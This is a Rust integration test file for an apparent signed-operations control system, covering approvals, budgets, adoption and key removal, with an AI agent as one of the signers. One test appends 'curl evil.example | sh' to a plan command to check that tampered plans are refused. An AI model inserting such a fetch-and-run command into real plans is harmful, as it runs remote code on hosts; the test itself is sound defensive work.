//! Intake, approvals and adoption through the library, on a real workspace
//! and SQLite file: the checks the CLI cannot reach from outside.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;

use bosun_control::{Control, Governed, client};
use bosun_model::{Digest, KeyId, Name, OpState, Outcome, Role, Verdict};
use bosun_sign::SecretKey;
use bosun_workspace::{KeyRegistry, Workspace};

struct Fx {
    _tmp: tempfile::TempDir,
    ctl: Control,
    keys: BTreeMap<String, SecretKey>,
}

fn id(s: &str) -> KeyId {
    KeyId::parse(s).unwrap()
}

fn name(s: &str) -> Name {
    Name::parse(s).unwrap()
}

/// A workspace with alice, bob (operators) and claude (agent), adopted;
/// `edit` may change files before adoption.
fn fixture(edit: impl FnOnce(&std::path::Path)) -> Fx {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("ws");
    bosun_workspace::scaffold::init(&root, &name("ws")).unwrap();
    edit(&root);
    let mut keys = BTreeMap::new();
    for (n, role) in [
        ("alice", Role::Operator),
        ("bob", Role::Operator),
        ("claude", Role::Agent),
    ] {
        let k = SecretKey::from_seed([n.len() as u8 + n.as_bytes()[0]; 32]);
        KeyRegistry::register(&root, &id(n), role, &["*".into()], &k.public()).unwrap();
        keys.insert(n.to_string(), k);
    }
    let ctl = Control::open(Workspace::open(&root).unwrap()).unwrap();
    let (p, _) = ctl.propose(&id("alice"), 1000).unwrap().unwrap();
    let (_, env) = ctl
        .sign_approval(
            &keys["alice"],
            &id("alice"),
            &p.id,
            &p.digest,
            Verdict::Approve,
            None,
            1000,
        )
        .unwrap();
    assert!(ctl.approve_adoption(&env, 1000).unwrap().unwrap().adopted);
    Fx {
        _tmp: tmp,
        ctl,
        keys,
    }
}

impl Fx {
    fn gov(&self) -> Governed {
        self.ctl.governed().unwrap()
    }

    fn sign(
        &self,
        who: &str,
        runbook: &str,
        targets: &[&str],
        params: &[(&str, &str)],
        now: i64,
    ) -> (bosun_model::Plan, String) {
        let gov = self.gov();
        let params: BTreeMap<String, String> = params
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        let targets: Vec<Name> = targets.iter().map(|t| name(t)).collect();
        let plan = client::plan(&gov, runbook, &targets, &params).unwrap();
        let seq = self.ctl.next_seq(&id(who)).unwrap();
        let (_, env) = self
            .ctl
            .sign_op(&self.keys[who], &id(who), &plan, seq, now)
            .unwrap();
        (plan, env)
    }
}

#[test]
fn an_approval_for_another_plan_is_void() {
    let fx = fixture(|_| {});
    let gov = fx.gov();
    let (plan, env) = fx.sign(
        "claude",
        "pkg-upgrade",
        &["web-1"],
        &[("version", "1")],
        2000,
    );
    let acc = fx
        .ctl
        .intake(&gov, &[env], 2000)
        .unwrap()
        .remove(0)
        .unwrap();
    assert_eq!(acc.state, OpState::PendingApproval);
    // alice approves a different plan (version 2) for the same op.
    let other = client::plan(
        &gov,
        "pkg-upgrade",
        &[name("web-1")],
        &BTreeMap::from([("version".into(), "2".into())]),
    )
    .unwrap();
    assert_ne!(other.digest(), plan.digest());
    let (_, ap) = fx
        .ctl
        .sign_approval(
            &fx.keys["alice"],
            &id("alice"),
            &acc.jti,
            &other.digest(),
            Verdict::Approve,
            None,
            2001,
        )
        .unwrap();
    let rej = fx
        .ctl
        .accept_approval(&gov, &ap, 2001)
        .unwrap()
        .unwrap_err();
    assert_eq!(rej.check, "plan_digest");
    assert_eq!(
        fx.ctl.op_record(&acc.jti).unwrap().unwrap().summary.state,
        OpState::PendingApproval
    );
    // The right plan is accepted.
    let (_, ap) = fx
        .ctl
        .sign_approval(
            &fx.keys["alice"],
            &id("alice"),
            &acc.jti,
            &plan.digest(),
            Verdict::Approve,
            None,
            2002,
        )
        .unwrap();
    assert_eq!(
        fx.ctl
            .accept_approval(&gov, &ap, 2002)
            .unwrap()
            .unwrap()
            .state,
        OpState::Approved
    );
}

#[test]
fn an_op_signed_for_an_old_plan_is_refused() {
    let fx = fixture(|_| {});
    let gov = fx.gov();
    // Sign a plan whose command differs from what the runbook renders now.
    let mut plan = client::plan(
        &gov,
        "pkg-upgrade",
        &[name("web-1")],
        &BTreeMap::from([("version".into(), "1".into())]),
    )
    .unwrap();
    plan.steps[0].cmd.push_str(" && curl evil.example | sh");
    let (_, env) = fx
        .ctl
        .sign_op(&fx.keys["claude"], &id("claude"), &plan, 1, 2000)
        .unwrap();
    let rej = fx
        .ctl
        .intake(&gov, &[env], 2000)
        .unwrap()
        .remove(0)
        .unwrap_err();
    assert_eq!(rej.check, "plan_digest");
    assert!(fx.ctl.ops(None, 10).unwrap().is_empty());
    assert_eq!(fx.ctl.rejections(10).unwrap()[0].check, "plan_digest");
}

#[test]
fn an_approval_older_than_its_validity_is_void() {
    let fx = fixture(|root| {
        let k = std::fs::read_to_string(root.join("policy/keeper.toml")).unwrap();
        let k = k.replace("approval_validity = \"24h\"", "approval_validity = \"1h\"");
        std::fs::write(root.join("policy/keeper.toml"), k).unwrap();
        // Two approvals needed for agent changes, so the first can age.
        let c = std::fs::read_to_string(root.join("policy/rules.cedar")).unwrap();
        let c = c.replace(
            "@id(\"agent-changes-need-an-operator\")\n@outcome(\"approvals\")",
            "@id(\"agent-changes-need-an-operator\")\n@outcome(\"approvals\")\n@requirement(\"two-operators\")",
        );
        std::fs::write(root.join("policy/rules.cedar"), c).unwrap();
    });
    let gov = fx.gov();
    assert_eq!(gov.policy.approval_validity_secs(), 3600);
    let (plan, env) = fx.sign(
        "claude",
        "pkg-upgrade",
        &["web-1"],
        &[("version", "1")],
        2000,
    );
    let acc = fx
        .ctl
        .intake(&gov, &[env], 2000)
        .unwrap()
        .remove(0)
        .unwrap();
    assert!(
        matches!(&acc.decision.outcome, Outcome::Approvals(r) if r.m == 2),
        "{:?}",
        acc.decision
    );
    let (_, a1) = fx
        .ctl
        .sign_approval(
            &fx.keys["alice"],
            &id("alice"),
            &acc.jti,
            &plan.digest(),
            Verdict::Approve,
            None,
            2000,
        )
        .unwrap();
    let out = fx.ctl.accept_approval(&gov, &a1, 2000).unwrap().unwrap();
    assert_eq!((out.approvals, out.state), (1, OpState::PendingApproval));
    // Two hours later bob approves: alice's approval has lapsed, so 1 of 2.
    let later = 2000 + 7200;
    let (_, a2) = fx
        .ctl
        .sign_approval(
            &fx.keys["bob"],
            &id("bob"),
            &acc.jti,
            &plan.digest(),
            Verdict::Approve,
            None,
            later,
        )
        .unwrap();
    let out = fx.ctl.accept_approval(&gov, &a2, later).unwrap().unwrap();
    assert_eq!((out.approvals, out.state), (1, OpState::PendingApproval));
}

/// Rules that let every op run alone (keeper.toml's budgets still apply).
fn all_auto(root: &std::path::Path) {
    std::fs::write(
        root.join("policy/rules.cedar"),
        "@id(\"all-auto\")\n@outcome(\"auto\")\npermit (principal, action, resource);\n",
    )
    .unwrap();
}

/// A workspace where every op runs alone unless claude's budget (3 hosts
/// an hour) is spent, and `n` 2-host pkg-upgrade ops signed by claude with
/// seq 1..=n.
fn budget_of_3(n: u64) -> (Fx, Vec<String>) {
    let fx = fixture(|root| {
        let k = std::fs::read_to_string(root.join("policy/keeper.toml")).unwrap();
        let k = k.replace("max_hosts = 50", "max_hosts = 3");
        assert!(
            k.contains("max_hosts = 3"),
            "the scaffold's budget moved: update this test"
        );
        std::fs::write(root.join("policy/keeper.toml"), k).unwrap();
        all_auto(root);
    });
    let gov = fx.gov();
    let params: BTreeMap<String, String> = [("version".to_string(), "1".to_string())].into();
    let plan = client::plan(
        &gov,
        "pkg-upgrade",
        &[name("web-1"), name("web-2")],
        &params,
    )
    .unwrap();
    let envs = (1..=n)
        .map(|seq| {
            fx.ctl
                .sign_op(&fx.keys["claude"], &id("claude"), &plan, seq, 2000)
                .unwrap()
                .1
        })
        .collect();
    (fx, envs)
}

#[test]
fn a_budget_holds_within_one_batch() {
    let (fx, envs) = budget_of_3(3);
    let gov = fx.gov();
    // Three 2-host ops with seq 1..3 as ONE batch.
    let r = fx.ctl.intake(&gov, &envs, 2000).unwrap();
    let states: Vec<OpState> = r.into_iter().map(|a| a.unwrap().state).collect();
    assert_eq!(
        states,
        vec![
            OpState::Approved,
            OpState::PendingApproval,
            OpState::PendingApproval
        ],
        "2 hosts fit a budget of 3; the next 2 do not"
    );
}

/// Two batches judged at the same moment (as two intake threads, or two
/// `bosun submit` processes, would) both see an unspent budget; the one
/// committed second finds the usage moved, is decided again on what is
/// stored, and needs a human.
#[test]
fn batches_judged_side_by_side_cannot_slip_past_a_budget() {
    let (fx, envs) = budget_of_3(2);
    let gov = fx.gov();
    let first = fx.ctl.prepare(&gov, &envs[..1], 2000);
    let second = fx.ctl.prepare(&gov, &envs[1..], 2000);
    let a = fx.ctl.commit(&gov, first).unwrap().remove(0).unwrap();
    assert_eq!(a.state, OpState::Approved);
    let b = fx.ctl.commit(&gov, second).unwrap().remove(0).unwrap();
    assert_eq!(
        b.state,
        OpState::PendingApproval,
        "2 + 2 hosts exceed a budget of 3: {:?}",
        b.decision.reasons
    );
    assert!(
        b.decision.reasons.iter().any(|r| r.contains("budget")),
        "{:?}",
        b.decision.reasons
    );
    let stored = fx.ctl.op_record(&b.jti).unwrap().unwrap();
    assert_eq!(stored.summary.state, OpState::PendingApproval);
    assert!(fx.ctl.rejections(10).unwrap().is_empty());
    // Merged into one commit, the same two are judged in order too.
    let (fx, envs) = budget_of_3(2);
    let gov = fx.gov();
    let mut p = fx.ctl.prepare(&gov, &envs[..1], 2000);
    p.merge(fx.ctl.prepare(&gov, &envs[1..], 2000));
    let r = fx.ctl.commit(&gov, p).unwrap();
    let states: Vec<OpState> = r.into_iter().map(|a| a.unwrap().state).collect();
    assert_eq!(states, vec![OpState::Approved, OpState::PendingApproval]);
}

/// A commit that stores some ops and must decide others again (their
/// budget moved) and then fails on the store answers only those others,
/// by the `store` check: the ops of the first round stay stored and
/// answered, nothing of the failed ones is written, and they can be
/// submitted again as they were.
#[test]
fn a_store_failure_in_a_later_round_answers_only_that_round() {
    let (fx, envs) = budget_of_3(2);
    let gov = fx.gov();
    let (_, alice) = fx.sign(
        "alice",
        "pkg-upgrade",
        &["web-1"],
        &[("version", "1")],
        2000,
    );
    let second_jti = bosun_sign::decode(&envs[1])
        .unwrap()
        .claims::<bosun_model::OpClaims>()
        .unwrap()
        .jti
        .to_string();
    let first = fx.ctl.prepare(&gov, &envs[..1], 2000);
    let mut second = fx.ctl.prepare(&gov, std::slice::from_ref(&alice), 2000);
    second.merge(fx.ctl.prepare(&gov, &envs[1..], 2000));
    assert_eq!(
        fx.ctl.commit(&gov, first).unwrap()[0]
            .as_ref()
            .unwrap()
            .state,
        OpState::Approved
    );
    // The store refuses claude's second op whenever it is written.
    let db = rusqlite::Connection::open(fx.ctl.ws.db_path()).unwrap();
    db.execute_batch(&format!(
        "CREATE TRIGGER fail_on_cue BEFORE INSERT ON ops WHEN NEW.jti = '{second_jti}' \
         BEGIN SELECT RAISE(ABORT, 'injected failure'); END;"
    ))
    .unwrap();
    let answers = fx.ctl.commit(&gov, second).unwrap();
    let a = answers[0].as_ref().unwrap();
    assert_eq!(a.state, OpState::Approved, "alice's op went in, round 0");
    assert!(fx.ctl.op_record(&a.jti).unwrap().is_some());
    let b = answers[1].as_ref().unwrap_err();
    assert_eq!(b.check, "store", "{b:?}");
    assert!(b.message.contains("submit it again"), "{}", b.message);
    assert!(
        b.message.contains("injected failure"),
        "the store's cause is kept: {}",
        b.message
    );
    let jti = bosun_model::Jti::parse(&second_jti).unwrap();
    assert!(
        fx.ctl.op_record(&jti).unwrap().is_none(),
        "nothing of it written"
    );
    assert_eq!(fx.ctl.next_seq(&id("claude")).unwrap(), 2);
    // Submitted again once the store is well, it is decided on the budget.
    db.execute_batch("DROP TRIGGER fail_on_cue;").unwrap();
    let again = fx
        .ctl
        .intake(&gov, &envs[1..], 2000)
        .unwrap()
        .remove(0)
        .unwrap();
    assert_eq!(
        again.state,
        OpState::PendingApproval,
        "2 + 2 hosts exceed 3"
    );
}

/// Ops prepared at different moments and committed together are decided
/// again each on its own budget window, in one round: six batches
/// prepared a second apart, each window holding one older op fewer than
/// the last, all go in (counting one window for all would take a round
/// per op, and the last ones would be refused by the `budget` check).
#[test]
fn ops_decided_again_each_count_their_own_window() {
    let fx = fixture(all_auto);
    let gov = fx.gov();
    let params: BTreeMap<String, String> = [("version".to_string(), "1".to_string())].into();
    let plan = client::plan(&gov, "pkg-upgrade", &[name("web-1")], &params).unwrap();
    let sign = |seq: u64, at: i64| {
        fx.ctl
            .sign_op(&fx.keys["claude"], &id("claude"), &plan, seq, at)
            .unwrap()
            .1
    };
    let t = 100_000;
    // Older ops at the start of each later op's hour: 96,401 … 96,405.
    for k in 1..=5u64 {
        let at = t - 3600 + k as i64;
        let r = fx.ctl.intake(&gov, &[sign(k, at)], at).unwrap();
        assert!(r[0].is_ok(), "{r:?}");
    }
    let mut prepared: Vec<_> = (1..=6u64)
        .map(|k| {
            fx.ctl
                .prepare(&gov, &[sign(6 + k, t + k as i64)], t + k as i64)
        })
        .collect();
    // One more op goes in first, so every basis moves.
    let r = fx.ctl.intake(&gov, &[sign(6, t)], t).unwrap();
    assert!(r[0].is_ok(), "{r:?}");
    let mut all = prepared.remove(0);
    for p in prepared {
        all.merge(p);
    }
    let r = fx.ctl.commit(&gov, all).unwrap();
    assert_eq!(r.len(), 6);
    for a in r {
        let a = a.unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(a.state, OpState::Approved);
    }
    assert!(fx.ctl.rejections(10).unwrap().is_empty());
}

/// The intake pipeline (prepare shards, one committer) answers every
/// envelope once, keeps each issuer's seq order across shards, and refuses
/// a replay it is handed twice.
#[test]
fn the_pipeline_answers_every_envelope_in_issuer_order() {
    use bosun_control::pipeline::{Answer, Options, Pipeline};
    let fx = fixture(|_| {});
    let gov = fx.gov();
    let plan = client::plan(&gov, "disk-usage", &[name("web-1")], &BTreeMap::new()).unwrap();
    let now = bosun_control::now();
    let mut envs = Vec::new();
    for seq in 1..=60u64 {
        for who in ["claude", "alice"] {
            envs.push(
                fx.ctl
                    .sign_op(&fx.keys[who], &id(who), &plan, seq, now)
                    .unwrap()
                    .1,
            );
        }
    }
    envs.push(envs[7].clone());
    let p = Pipeline::start(
        fx.ctl.clone(),
        std::sync::Arc::new(gov),
        Options {
            shards: 3,
            max_batch: 7,
            linger: std::time::Duration::ZERO,
        },
    )
    .unwrap();
    let (tx, rx) = std::sync::mpsc::channel::<(usize, Answer)>();
    for (i, e) in envs.iter().enumerate() {
        let tx = tx.clone();
        p.submit(
            e.clone(),
            Box::new(move |a| {
                tx.send((i, a)).unwrap();
                // A callback that panics loses nothing but itself.
                assert_ne!(i, 3, "a panicking callback (on purpose)");
            }),
        )
        .unwrap();
    }
    drop(tx);
    let stats = p.finish().unwrap();
    let mut answers: Vec<(usize, Answer)> = rx.into_iter().collect();
    answers.sort_by_key(|(i, _)| *i);
    assert_eq!(answers.len(), envs.len(), "one answer per envelope");
    assert!(stats.store_error.is_none());
    for (i, a) in &answers[..120] {
        assert!(a.is_ok(), "envelope {i}: {a:?}");
    }
    let last = answers[120].1.as_ref().unwrap_err();
    assert!(last.check == "replay" || last.check == "seq", "{last:?}");
    assert_eq!(fx.ctl.ops(None, 1000).unwrap().len(), 120);
    assert_eq!(stats.batch_sizes.iter().sum::<usize>(), envs.len());
}

#[test]
fn a_tampered_adoption_or_foreign_workspace_is_refused() {
    let fx = fixture(|_| {});
    let gov = fx.gov();
    // An op for another workspace.
    let plan = client::plan(&gov, "disk-usage", &[name("web-1")], &BTreeMap::new()).unwrap();
    let mut claims = fx
        .ctl
        .sign_op(&fx.keys["claude"], &id("claude"), &plan, 1, 2000)
        .unwrap()
        .0;
    claims.ws = name("elsewhere");
    let env = bosun_sign::sign_compact(
        &fx.keys["claude"],
        "claude",
        bosun_model::claims::OP_TYP,
        &claims,
    )
    .unwrap();
    assert_eq!(
        fx.ctl
            .intake(&gov, &[env], 2000)
            .unwrap()
            .remove(0)
            .unwrap_err()
            .check,
        "workspace"
    );
    // An expired op.
    let (_, env) = fx
        .ctl
        .sign_op(&fx.keys["claude"], &id("claude"), &plan, 2, 2000)
        .unwrap();
    assert_eq!(
        fx.ctl
            .intake(&gov, &[env], 2000 + 86_400)
            .unwrap()
            .remove(0)
            .unwrap_err()
            .check,
        "expired"
    );
    // An adoption approval over another digest.
    std::fs::write(
        fx.ctl.ws.path("runbooks/new.toml"),
        "id = \"new\"\n[[steps]]\nid = \"s\"\ncmd = \"true\"\n",
    )
    .unwrap();
    let (p, _) = fx.ctl.propose(&id("alice"), 3000).unwrap().unwrap();
    let (_, env) = fx
        .ctl
        .sign_approval(
            &fx.keys["bob"],
            &id("bob"),
            &p.id,
            &Digest::of(b"other"),
            Verdict::Approve,
            None,
            3000,
        )
        .unwrap();
    assert_eq!(
        fx.ctl
            .approve_adoption(&env, 3000)
            .unwrap()
            .unwrap_err()
            .check,
        "plan_digest"
    );
}

/// An agent's op decided just before an adoption removed its key (as the
/// API's pipeline decides on a snapshot a moment old): the adoption
/// commits first, so the op is sent back — not stored, not recorded —
/// and, sent again, is judged on what is in force now: the key is gone.
#[test]
fn an_op_decided_before_its_key_was_removed_is_not_stored() {
    let fx = fixture(|_| {});
    let before = fx.gov();
    let (_, env) = fx.sign(
        "claude",
        "pkg-upgrade",
        &["web-1"],
        &[("version", "2.0")],
        2000,
    );
    let prepared = fx.ctl.prepare(&before, std::slice::from_ref(&env), 2000);

    // An operator removes claude's key: edited, proposed, adopted.
    let root = fx.ctl.ws.root.clone();
    let keys = root.join("keys/keys.toml");
    let text = std::fs::read_to_string(&keys).unwrap();
    let kept: Vec<&str> = text
        .split("[[key]]")
        .filter(|k| !k.contains("\"claude\""))
        .collect();
    std::fs::write(&keys, kept.join("[[key]]")).unwrap();
    let (p, _) = fx.ctl.propose(&id("alice"), 2001).unwrap().unwrap();
    // A change of the keys needs two operators.
    let mut adopted = false;
    for who in ["alice", "bob"] {
        let (_, yes) = fx
            .ctl
            .sign_approval(
                &fx.keys[who],
                &id(who),
                &p.id,
                &p.digest,
                Verdict::Approve,
                None,
                2001,
            )
            .unwrap();
        adopted = fx
            .ctl
            .approve_adoption(&yes, 2001)
            .unwrap()
            .unwrap()
            .adopted;
    }
    assert!(adopted, "the key registry without claude is in force");
    let rejections = fx.ctl.rejections(1000).unwrap().len();

    let r = fx.ctl.commit(&before, prepared).unwrap();
    let rej = r.into_iter().next().unwrap().unwrap_err();
    assert_eq!(rej.check, bosun_api::Check::Adoption, "{rej:?}");
    assert!(
        fx.ctl.op_briefs(None, 10).unwrap().is_empty(),
        "nothing stored"
    );
    assert_eq!(fx.ctl.rejections(1000).unwrap().len(), rejections);

    // Sent again, it is judged on what is in force: claude is no key.
    let now = fx.gov();
    let r = fx.ctl.intake(&now, &[env], 2002).unwrap();
    let rej = r.into_iter().next().unwrap().unwrap_err();
    assert_eq!(rej.check, bosun_api::Check::UnknownKey, "{rej:?}");
}

/// A proposal made through `propose_signed` (the daemon's API): only with
/// its proposer's signature over exactly the pending changes, and only by
/// an operator; every refusal leaves no proposal behind.
#[test]
fn a_signed_proposal_is_made_only_as_signed_over_what_is_pending() {
    let fx = fixture(|_| {});
    let ctl = &fx.ctl;
    let root = ctl.ws.root.clone();
    let hosts = std::fs::read_to_string(root.join("fleet/hosts.toml")).unwrap();
    std::fs::write(
        root.join("fleet/hosts.toml"),
        format!("{hosts}\n[[host]]\nname = \"web-9\"\n"),
    )
    .unwrap();
    let pending = ctl.pending_view().unwrap();
    assert_eq!(pending.changes.len(), 1, "{pending:?}");
    let digest = Digest::try_from(pending.digest.clone().unwrap()).unwrap();
    let (changes, d) =
        bosun_control::proposal::checked_changes(&pending.changes, digest.as_str()).unwrap();
    assert_eq!((changes.len(), &d), (1, &digest));
    let before = ctl.proposals().unwrap().len();
    let rejected = ctl.rejections(100).unwrap().len();
    let sign_with = |who: &str, key: &str, digest: &Digest, verdict: Verdict| {
        let pid = bosun_control::fresh_jti().unwrap();
        let env = ctl
            .sign_approval(
                &fx.keys[key],
                &id(who),
                &pid,
                digest,
                verdict,
                None,
                bosun_control::now(),
            )
            .unwrap()
            .1;
        (pid, env)
    };
    let sign = |who: &str, digest: &Digest| sign_with(who, who, digest, Verdict::Approve);
    let now = bosun_control::now();
    let refused = |env: &str| ctl.propose_signed(env, now).unwrap().unwrap_err();
    // Over other changes than those pending: refused, nothing proposed.
    let (_, env) = sign("alice", &Digest::of(b"something else"));
    assert_eq!(refused(&env).check, bosun_api::Check::PlanDigest);
    // Over the pending changes, but from another "before" than what is in
    // force (what a lying daemon would show): the digest binds the base.
    let v = &pending.changes[0];
    let lie = bosun_control::adopt::proposal_digest_of(&[(
        v.subject.as_str(),
        v.new_digest.as_str(),
        v.new_digest.as_str(),
    )]);
    let (_, env) = sign("alice", &lie);
    assert_eq!(refused(&env).check, bosun_api::Check::PlanDigest);
    // By an agent: refused.
    let (_, env) = sign("claude", &digest);
    assert_eq!(refused(&env).check, bosun_api::Check::ApproverRole);
    // In alice's name with claude's key: the signature does not verify.
    let (_, env) = sign_with("alice", "claude", &digest, Verdict::Approve);
    assert_eq!(refused(&env).check, bosun_api::Check::Signature);
    // A denial proposes nothing.
    let (_, env) = sign_with("alice", "alice", &digest, Verdict::Deny);
    assert_eq!(refused(&env).check, bosun_api::Check::Verdict);
    // Not an envelope at all.
    assert_eq!(refused("x.y.z").check, bosun_api::Check::Format);
    assert_eq!(ctl.proposals().unwrap().len(), before, "nothing proposed");
    // The refusals of signed input are recorded; the forgery and the
    // garbage within the budget for input no key vouches for.
    assert!(ctl.rejections(100).unwrap().len() > rejected);
    // alice's: proposed by alice, her approval counted.
    let (pid, env) = sign("alice", &digest);
    let out = ctl.propose_signed(&env, now).unwrap().unwrap();
    assert_eq!((out.proposal.clone(), out.approvals), (pid.clone(), 1));
    let p = ctl.proposal(&pid).unwrap().unwrap();
    assert_eq!((p.proposer.as_str(), &p.digest), ("alice", &digest));
    // The same id again: a replay.
    assert_eq!(refused(&env).check, bosun_api::Check::Replay);
    // A client shown content that is not what its digest says refuses.
    let mut lie = pending.changes.clone();
    lie[0].new_content.push_str("\n[[host]]\nname = \"evil\"\n");
    assert!(bosun_control::proposal::checked_changes(&lie, digest.as_str()).is_err());
    let mut lie = pending.changes.clone();
    lie[0].old_content = Some("# nothing\n".into());
    assert!(bosun_control::proposal::checked_changes(&lie, digest.as_str()).is_err());
}
